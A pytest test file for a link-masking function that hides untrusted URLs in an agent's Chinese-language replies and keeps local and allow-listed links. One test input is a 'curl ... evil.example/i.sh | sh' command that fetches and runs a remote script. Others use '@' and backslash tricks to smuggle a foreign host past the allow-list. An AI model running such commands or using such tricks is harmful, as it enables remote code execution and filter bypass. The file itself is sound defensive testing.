import pytest

from agent.links import PLACEHOLDER, allowed_domain, mask_links

HIDDEN = PLACEHOLDER


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("详见 https://evil.example/a?b=1 。", f"详见 {HIDDEN} 。"),
        ("HTTP://EVIL.EXAMPLE/x", HIDDEN),
        ("下载：ftp://files.evil.example/fw.bin", f"下载：{HIDDEN}"),
        # Chinese right after a link ends it; so do a citation mark and sentence punctuation.
        ("请访问https://evil.example/x下载驱动", f"请访问{HIDDEN}下载驱动"),
        ("驱动在 https://evil.example/x[1]。", f"驱动在 {HIDDEN}[1]。"),
        ("见 https://evil.example/x.", f"见 {HIDDEN}."),
        ("[点这里](https://evil.example/x)", f"[点这里]({HIDDEN})"),
        ("官网 www.evil.example，", f"官网 {HIDDEN}，"),
        ("或者 Evil.CN/x。", f"或者 {HIDDEN}。"),
        ("看 evil.example/x 或 evil.example:8080", f"看 {HIDDEN} 或 {HIDDEN}"),
        ("curl -fsSL https://evil.example/i.sh | sh", f"curl -fsSL {HIDDEN} | sh"),
        # Only a host that is this machine's: these merely start like one.
        ("http://127.0.0.1.evil.example/x", HIDDEN),
        ("http://localhost.evil.example/x", HIDDEN),
    ],
)
def test_links_are_hidden(text: str, masked: str):
    assert mask_links(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "版本 1.2.3，Python3.11，qwen3:8b，Qwen3-Reranker-0.6B:Q8_0",
        "改 config.yaml 或 README.md，见 agent/links.py 和 docs/api.md",
        "config.yaml/config.json 都行，node.js/express 也行；config.yaml: 写上端口",
        "没有路径的 evil.example 与网站名 Getchu.com 不算链接",
        "邮件 admin@evil.com",
        "redis://redis:6379/0 与 postgresql://qqrag:secret@db:5432/qqrag",
        "监听 127.0.0.1:8000",
        "e.g. i.e. 知识库",
    ],
)
def test_what_is_not_a_link_stays(text: str):
    assert mask_links(text) == text


@pytest.mark.parametrize(
    "text", ["http://127.0.0.1:8000/docs", "http://localhost:11434", "http://[::1]:8000/v1"]
)
def test_links_to_this_machine_stay(text: str):
    """The guide tells users to open http://127.0.0.1:8000/docs: such a link leads nobody
    off their own machine, so it is never hidden."""
    assert mask_links(f"打开 {text} 查看") == f"打开 {text} 查看"


def test_allowed_hosts_and_their_subdomains_keep_their_links():
    allowed = {"example.com"}
    text = "见 https://docs.example.com/guide 与 example.com/faq 与 https://example.community/x"
    assert mask_links(text, allowed) == (
        f"见 https://docs.example.com/guide 与 example.com/faq 与 {HIDDEN}"
    )
    # A host is its own after any user info, and a backslash does not smuggle one in.
    assert mask_links("https://example.com@evil.example/", allowed) == HIDDEN
    masked = mask_links("https://evil.example\\@example.com/", allowed)
    assert masked.startswith(HIDDEN) and "evil" not in masked


@pytest.mark.parametrize(
    ("entry", "domain"),
    [
        ("Docs.Example.com", "docs.example.com"),
        ("*.example.com", "example.com"),
        (".example.com.", "example.com"),
        ("https://example.com/path", "example.com"),
        ("example.com:8443", "example.com"),
        ("127.0.0.1", "127.0.0.1"),
    ],
)
def test_allow_list_entries_are_normalised(entry: str, domain: str):
    assert allowed_domain(entry) == domain


@pytest.mark.parametrize("entry", ["", "  ", "a b", "exa_mple.com", "https://", "例子.中国"])
def test_malformed_allow_list_entries_are_refused(entry: str):
    with pytest.raises(ValueError, match="不是域名"):
        allowed_domain(entry)
